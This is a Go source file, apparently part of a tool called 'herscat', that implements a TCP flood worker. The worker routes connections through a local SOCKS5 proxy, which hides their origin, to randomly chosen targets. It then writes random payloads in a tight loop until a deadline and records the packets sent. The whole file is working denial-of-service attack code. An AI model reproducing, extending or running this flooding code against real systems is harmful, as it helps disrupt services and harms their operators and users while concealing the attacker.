package workers

import (
	"context"
	cryptorand "crypto/rand"
	"fmt"
	"math/rand/v2"
	"net"
	"time"

	"golang.org/x/net/proxy"
	"golang.org/x/time/rate"

	"herscat/internal/stats"
	"herscat/internal/targets"
)

const tcpFloodBackoff = 200 * time.Millisecond

// NewTCPFloodWorker builds a worker that repeatedly opens a TCP tunnel
// through the SOCKS5 endpoint at 127.0.0.1:proxyPort to a random Socket
// target and writes a fixed-size random payload in a tight loop, optionally
// paced by limiter and capped per connection by packetsPerConnection (zero
// meaning unlimited).
func NewTCPFloodWorker(proxyPort int, socketTargets []targets.Target, packetSize, packetsPerConnection int, limiter *rate.Limiter, counters *stats.Counters) func(deadline time.Time) {
	dialer, _ := proxy.SOCKS5("tcp", fmt.Sprintf("127.0.0.1:%d", proxyPort), nil, &net.Dialer{Timeout: 10 * time.Second})

	payload := make([]byte, packetSize)
	_, _ = cryptorand.Read(payload)

	return func(deadline time.Time) {
		if len(socketTargets) == 0 {
			return
		}
		for !pastDeadline(deadline) {
			target := socketTargets[rand.IntN(len(socketTargets))]
			addr := net.JoinHostPort(target.Host, fmt.Sprintf("%d", target.Port))

			conn, err := dialer.Dial("tcp", addr)
			if err != nil {
				counters.RecordFailure()
				time.Sleep(tcpFloodBackoff)
				continue
			}

			floodOneConnection(conn, payload, packetsPerConnection, limiter, counters, deadline)
			conn.Close()
		}
	}
}

func floodOneConnection(conn net.Conn, payload []byte, limit int, limiter *rate.Limiter, counters *stats.Counters, deadline time.Time) {
	sent := 0
	for !pastDeadline(deadline) {
		if limit > 0 && sent >= limit {
			return
		}
		if limiter != nil {
			if err := limiter.Wait(context.Background()); err != nil {
				return
			}
		}

		n, err := conn.Write(payload)
		if err != nil {
			counters.RecordFailure()
			time.Sleep(tcpFloodBackoff)
			return
		}
		counters.RecordPacket(uint64(n))
		sent++
	}
}
